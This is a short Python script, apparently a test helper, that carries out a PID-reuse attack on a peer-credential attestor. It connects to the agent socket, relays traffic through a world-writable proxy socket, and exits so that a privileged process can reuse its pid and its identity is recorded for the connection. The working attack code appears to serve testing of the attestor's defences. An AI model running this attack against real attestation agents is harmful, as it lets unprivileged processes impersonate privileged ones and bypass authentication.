"""The PID-reuse attack on a peer-credential attestor.

This process connects to the agent (so SO_PEERCRED names *its* pid), forks a
holder that keeps the connection, prints its pid and exits. The test then gets a
privileged process started on the same pid. The holder relays bytes between the
proxy socket (argv[2]) and the agent connection, so a gRPC client on the proxy
speaks to the agent over a connection whose recorded peer pid now belongs to
the privileged process."""
import os
import socket
import sys

import relay

agent_path, proxy_path = sys.argv[1], sys.argv[2]
upstream = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
upstream.connect(agent_path)
listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
listener.bind(proxy_path)
os.chmod(proxy_path, 0o777)
listener.listen(1)

if os.fork() == 0:
    relay.serve(listener, upstream)
    os._exit(0)

print(os.getpid(), flush=True)
os._exit(0)
